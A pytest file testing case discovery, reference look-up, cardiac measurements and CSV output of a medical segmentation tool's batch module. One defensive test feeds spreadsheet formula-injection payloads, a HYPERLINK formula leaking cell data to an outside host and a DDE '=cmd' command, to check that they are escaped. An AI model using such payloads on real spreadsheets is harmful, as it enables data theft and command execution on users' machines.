"""Case discovery, reference look-up and output checks of medseg.batch (no model needed)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from medseg.batch import case_id, check_out_dir, discover_cases, find_reference
from medseg.errors import MedsegError, PromptError


def _touch(p: Path, data: bytes = b"x") -> Path:
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data)
    return p


@pytest.mark.parametrize("name, expected", [
    ("p01.nii.gz", "p01"), ("p.01.nii", "p.01"), ("a.mha", "a"), ("a.mhd", "a"), ("b.nrrd", "b"), ("c.PNG", "c"),
    ("echo.avi", "echo"), ("clip.mp4", "clip"), ("x.dcm", "x"), ("notes.txt", None), ("p01.json", None),
    (".hidden.nii.gz", None), ("IM0001", None), ("raw.raw", None),
])
def test_case_id_of_files(tmp_path, name, expected):
    assert case_id(_touch(tmp_path / name)) == expected


def test_case_id_of_dicom_marker_and_folders(tmp_path):
    assert case_id(_touch(tmp_path / "IM0001", b"\0" * 128 + b"DICM" + b"\0" * 8)) == "IM0001"
    _touch(tmp_path / "study7" / "IM1.dcm")
    _touch(tmp_path / "notes" / "readme.txt")
    assert case_id(tmp_path / "study7") == "study7"
    assert case_id(tmp_path / "notes") is None


def test_discover_skips_references_outputs_and_flags_duplicates(tmp_path):
    inp = tmp_path / "in"
    for n in ("p01.nii.gz", "p01_gt.nii.gz", "p02.mha", "lonely_gt.nii.gz", "dup.nii.gz", "dup.nrrd", "summary.csv", "summary.nii.gz"):
        _touch(inp / n)
    _touch(inp / "series3" / "a.dcm")
    _touch(inp / "out" / "p01.nii.gz")  # OUT_DIR inside INPUT_DIR
    cases = discover_cases(inp, exclude=[inp / "out"])
    ids = [c.case for c in cases]
    assert ids == ["dup", "dup", "lonely_gt", "p01", "p02", "series3", "summary"]
    assert all(c.error and "rename one" in c.error for c in cases if c.case == "dup")
    # its sidecar would be OUT_DIR/summary.json, the batch's summary
    assert [c.error for c in cases if c.case == "summary"] == ["case id 'summary' (summary.nii.gz) would write summary.json, the batch's own summary file: rename it"]
    assert not any(c.error for c in cases if c.case not in ("dup", "summary"))


def test_discover_searches_sub_folders_of_exports_and_cohorts(tmp_path):
    """A DICOM export (patient / study / series folders, a DICOMDIR) and ACDC's layout
    (patientNNN/ with images and their _gt beside them): cases at any depth; a name two cases
    share gets its folders as a prefix; medseg's own label files and earlier batch outputs are
    never studies; with --prompts-from INPUT_DIR each case's reference is the one beside it."""
    import json

    inp = tmp_path / "in"
    _touch(inp / "DICOMDIR", b"\0" * 128 + b"DICM")
    for pat in ("pat1", "pat2"):
        _touch(inp / pat / "study1" / "series1" / "IM1.dcm")
    _touch(inp / "pat1" / "study1" / "series2" / "IM1.dcm")
    for n in ("patient001_frame01.nii.gz", "patient001_frame01_gt.nii.gz", "patient001_4d.nii.gz", "Info.cfg"):
        _touch(inp / "acdc" / "patient001" / n)
    _touch(inp / "seg.nii.gz")  # written by medseg segment: its sidecar lists it
    (inp / "seg.json").write_text(json.dumps({"labels": ["seg.nii.gz"], "label_map": {"lv": 1}, "provenance": {}}))
    for n in ("a.nii.gz", "summary.json", "summary.csv"):  # an earlier batch's OUT_DIR
        _touch(inp / "old_run" / n)
    cases = discover_cases(inp, prompts_from=inp)
    assert [c.case for c in cases] == ["pat1_study1_series1", "pat2_study1_series1", "patient001_4d", "patient001_frame01", "series2"]
    refs = {c.case: c.reference for c in cases}
    assert refs["patient001_frame01"] == str(inp / "acdc" / "patient001" / "patient001_frame01_gt.nii.gz")
    assert refs["series2"] is None and all(c.error for c in cases if c.reference is None)


@pytest.mark.parametrize("files, expected", [
    (["p01_gt.nii.gz", "p01.nii.gz"], "p01_gt.nii.gz"),
    (["p01_labels.nrrd", "p01_seg.nii.gz"], "p01_labels.nrrd"),
    (["p01.nii.gz"], "p01.nii.gz"),
    (["p01_label.mha"], "p01_label.mha"),
    (["p01_manual.nii.gz", "p01.nrrd"], "p01_manual.nii.gz"),  # MS-CMRSeg's name
])
def test_find_reference_order(tmp_path, files, expected):
    for f in files:
        _touch(tmp_path / f)
    assert find_reference("p01", tmp_path).name == expected


def test_find_reference_never_the_image_and_ambiguity(tmp_path):
    img = _touch(tmp_path / "p01.nii.gz")
    with pytest.raises(PromptError, match="no reference labels for case 'p01'"):
        find_reference("p01", tmp_path, img)
    _touch(tmp_path / "p01_gt.nii.gz")
    _touch(tmp_path / "p01_gt.mha")
    with pytest.raises(PromptError, match="ambiguous"):
        find_reference("p01", tmp_path, img)


def test_discover_attaches_references_or_per_case_errors(tmp_path):
    _touch(tmp_path / "in" / "a.nii.gz")
    _touch(tmp_path / "in" / "b.nii.gz")
    _touch(tmp_path / "refs" / "a_gt.nii.gz")
    a, b = discover_cases(tmp_path / "in", prompts_from=tmp_path / "refs")
    assert a.reference.endswith("a_gt.nii.gz") and a.error is None
    assert b.reference is None and "no reference labels for case 'b'" in b.error


def test_bad_folders(tmp_path):
    with pytest.raises(MedsegError, match="input folder not found"):
        discover_cases(tmp_path / "missing")
    _touch(tmp_path / "in" / "a.nii.gz")
    with pytest.raises(PromptError, match="must be a folder"):
        discover_cases(tmp_path / "in", prompts_from=tmp_path / "in" / "a.nii.gz")
    blocker = _touch(tmp_path / "file")
    with pytest.raises(MedsegError, match="file is a file, not a folder"):  # said "not writable: Not a directory"
        check_out_dir(blocker / "out")


def test_library_import_is_light():
    code = ("import sys, medseg.batch; bad = [m for m in ('typer', 'rich', 'torch', 'distributed') if m in sys.modules]; "
            "print(bad); sys.exit(1 if bad else 0)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_measure_of_an_apical_view_over_the_cycle_gives_ef_without_spacing(tmp_path):
    """A 2-D + time case (an echo clip) is measured by single-plane disks per frame: EF from the
    curve, even when the input had no pixel spacing (volumes then left empty)."""
    import numpy as np

    from medseg.batch import BatchOptions
    from medseg.batch.cohort import _measure
    from medseg.io import Volume, write_labels

    yy, xx = np.mgrid[:120, :100]
    frames = []
    for half_width in (20.0, 23.0, 17.0, 14.0, 18.0):  # ED frame 1, ES frame 3
        frames.append((((xx - 50) / half_width) ** 2 + ((yy - 10) / (3.5 * half_width)) ** 2 <= 1) & (yy >= 10))
    lab = np.stack(frames)[:, None].astype(np.uint8)  # (T, 1, Y, X), lv = 1
    like = Volume(np.zeros(lab.shape, np.float32), np.eye(4), spacing_known=False, meta={})
    out = tmp_path / "clip.nii.gz"
    write_labels(lab, like, out, "lv=1,myo=2,la=3")  # the sidecar records spacing_known: False
    res = _measure(out, BatchOptions(out_dir=tmp_path, measure=True), "clip")
    assert res["measure_note"] == ""
    row = res["cohort_row"]
    assert row["method"] == "single_plane_disks_clip" and (row["ed_frame"], row["es_frame"]) == (1, 3)
    assert abs(row["lv.ef_pct"] - 100 * (1 - (14 / 23) ** 3)) < 1.5 and row["lv.edv_ml"] == ""  # half-ellipsoids: V ~ w^3


def _echo_case(tmp_path, case, lab, spacing_known=False, label_map="lv=1,myo=2,la=4"):
    import numpy as np

    from medseg.io import Volume, write_labels

    like = Volume(np.zeros((1, 1, *lab.shape), np.float32), np.diag([0.3, 0.3, 1.0, 1.0]), modality="US", spacing_known=spacing_known)
    out = tmp_path / f"{case}.nii.gz"
    write_labels(lab, like, out, label_map)
    return {"case": case, "status": "ok", "output": str(out), "input": f"{case}.png"}


def test_echo_views_named_study_view_phase_are_measured_together(tmp_path):
    """`batch --measure` on apical views saved one image per view and phase (CAMUS names them
    patient0001_4CH_ED.png): a cohort row per study, EF as `medseg measure --ed --es --a2c-ed
    --a2c-es` gives it (no millimetres without pixel spacing)."""
    import numpy as np

    from medseg.batch import echo_study_rows
    from medseg.measure.echo import measure_echo
    from medseg.phantoms import echo_apical_phantom

    labels, results = {}, []
    for view, name in (("a4c", "4CH"), ("a2c", "2CH")):
        ph = echo_apical_phantom(view, n_frames=8, seed=2)
        for phase in ("ED", "ES"):
            lab = ph.labels[ph.info[f"{phase.lower()}_frame"], 0]
            labels[(name, phase)] = np.where(np.isin(lab, (1, 2, 4)), lab, 0).astype(np.uint8)
            results.append(_echo_case(tmp_path, f"p7_{name}_{phase}", labels[(name, phase)]))
            results.append(_echo_case(tmp_path, f"p8-A{name[0]}C-{phase.lower()}", labels[(name, phase)], spacing_known=True))
    results.append(_echo_case(tmp_path, "p9_2CH_ED", labels[("2CH", "ED")]))  # no 4-chamber pair: no row
    results.append({"case": "p10_4CH_ED", "status": "failed", "output": "", "input": "x"})  # a row saying why, no numbers
    results.append(_echo_case(tmp_path, "p10_4CH_ES", labels[("4CH", "ES")]))
    results.append(_echo_case(tmp_path, "p11_4CH_ED", labels[("4CH", "ED")]))
    other = np.where(labels[("4CH", "ES")] == 4, 3, labels[("4CH", "ES")]).astype(np.uint8)
    results.append(_echo_case(tmp_path, "p11_4CH_ES", other, label_map="lv=1,myo=2,la=3"))  # another label map
    rows = {r["case"]: r for r in echo_study_rows(results)}
    assert sorted(rows) == ["p10", "p11", "p7", "p8"]
    assert rows["p10"]["measure_note"] == "not measured: p10_4CH_ED failed" and "cohort_row" not in rows["p10"]
    expect = measure_echo(labels[("4CH", "ED")], labels[("4CH", "ES")], labels[("2CH", "ED")], labels[("2CH", "ES")], label_map="lv=1,myo=2,la=4")
    p7, p8 = rows["p7"]["cohort_row"], rows["p8"]["cohort_row"]
    assert p7["method"] == "biplane_disks" and p7["views"] == "4CH_ED 4CH_ES 2CH_ED 2CH_ES"
    assert p7["lv.ef_pct"] == pytest.approx(expect["lv"]["ef_pct"], abs=1e-3) and p7["lv.edv_ml"] == ""
    assert p8["lv.ef_pct"] == pytest.approx(p7["lv.ef_pct"], abs=1e-3) and p8["lv.edv_ml"] > 0  # pixel spacing known
    assert "one label map" in rows["p11"]["measure_note"] and "cohort_row" not in rows["p11"]
    # each view's own case: a note that points at its study's row (not a library error)
    from medseg.batch import BatchOptions
    from medseg.batch.cohort import _measure

    opts = BatchOptions(out_dir=tmp_path, measure=True)
    assert _measure(Path(results[0]["output"]), opts, "p7_4CH_ED") == {
        "measure_note": "one apical view: measured in the row of its study p7 (with both 4-chamber phases)"}
    lone = _measure(Path(results[0]["output"]), opts, "p7_la")  # a single 2-D image not named as a view
    assert lone["measure_note"].startswith("not measured: one 2-D image gives no volume") and "cohort_row" not in lone


def test_measure_takes_body_data_from_the_subjects_row_and_the_heart_rate_from_the_image(tmp_path):
    """batch --measure of a cine: BSA and indexed values from the case's subjects row; cardiac
    output from the row's heart rate, else from the DICOM heart rate the labels' sidecar kept."""
    from medseg.batch import BatchOptions
    from medseg.batch.cohort import _measure
    from medseg.io import write_labels
    from medseg.phantoms import cine_sax_phantom
    from medseg.subjects import Subject

    ph = cine_sax_phantom(n_frames=6, n_slices=5, shape=(64, 64), seed=3)
    out = tmp_path / "p7_cine.nii.gz"
    write_labels(ph.labels, ph.image.with_array(ph.image.array, meta={"heart_rate": 60.0}), out, ph.label_map)
    plain = _measure(out, BatchOptions(out_dir=tmp_path, measure=True), "p7_cine")["cohort_row"]
    assert plain["heart_rate_bpm"] == 60.0 and plain["bsa_m2"] == "" and "subject" not in plain
    rows = (Subject("p7", 180.0, 80.0, "F"), Subject("p7_cine", 160.0, 50.0, None, 90.0))
    for subjects, bsa, bpm in ((rows[:1], 2.0, 60.0), (rows, (160 * 50 / 3600) ** 0.5, 90.0)):
        row = _measure(out, BatchOptions(out_dir=tmp_path, measure=True, subjects=subjects), "p7_cine")["cohort_row"]
        assert row["bsa_m2"] == pytest.approx(bsa, abs=1e-4) and row["heart_rate_bpm"] == bpm
        assert row["co_l_min"] == pytest.approx(row["lv.sv_ml"] * bpm / 1000, abs=1e-3)
        assert row["indexed.lv_edv_ml_m2"] == pytest.approx(row["lv.edv_ml"] / row["bsa_m2"], rel=1e-3)
    # a row with a height and no weight: no BSA, and the cohort row says why (it was left empty silently)
    half = _measure(out, BatchOptions(out_dir=tmp_path, measure=True, subjects=(Subject("p7", 180.0),)), "p7_cine")
    assert half["cohort_row"]["bsa_m2"] == "" and half["measure_note"].startswith("no BSA or indexed values: a height and no weight")
    assert _measure(out, BatchOptions(out_dir=tmp_path, measure=True, subjects=rows), "p7_cine")["measure_note"] == ""


def test_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
    """A file or case named like a formula ("=HYPERLINK(...)", "@SUM(A1)") reached summary.csv
    as it was, and a spreadsheet opening the cohort ran it; such text cells now start with ',
    while numbers (negative ones too) stay numbers."""
    import csv

    from medseg._files import csv_text
    from medseg.batch.cohort import write_summary

    text = csv_text(["case", "value", "note"], [{"case": '=HYPERLINK("http://x/?"&A1,"click")', "value": -3.5, "note": "-2"},
                                                {"case": "@SUM(A1)", "value": 1.0, "note": "+x"}])
    rows = list(csv.DictReader(text.splitlines()))
    assert [r["case"] for r in rows] == ["'=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'@SUM(A1)"]
    assert [r["value"] for r in rows] == ["-3.5", "1.0"] and [r["note"] for r in rows] == ["-2", "'+x"]
    res = {"case": "=1+1", "status": "failed", "reason": "=cmd|' /C calc'!A0", "seconds": 0.1, "output": "", "input": "/in/=1+1.nii.gz"}
    csv_path, _ = write_summary(tmp_path, [res])
    (row,) = list(csv.DictReader(csv_path.read_text().splitlines()))
    assert row["case"] == "'=1+1" and row["reason"].startswith("'=cmd")


def test_a_symlink_loop_in_the_input_folder_is_left_out(tmp_path):
    """A symlink loop (L1 -> L2 -> L1) beside a study made `batch` stop before any case with
    "unexpected RuntimeError: Symlink loop"; it is no case, and output checks on it are one line."""
    import os

    from medseg._files import check_not_inputs
    from medseg.batch import discover_cases
    from medseg.errors import MedsegError

    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "p1.nii.gz").write_bytes(b"x")
    os.symlink(tmp_path / "in" / "L2", tmp_path / "in" / "L1")
    os.symlink(tmp_path / "in" / "L1", tmp_path / "in" / "L2")
    assert [c.case for c in discover_cases(tmp_path / "in")] == ["p1"]
    try:
        check_not_inputs({"output labels": tmp_path / "in" / "L1"}, {"image": tmp_path / "in" / "p1.nii.gz"})
    except MedsegError:
        pass  # refused in one line is fine; never an unexpected RuntimeError
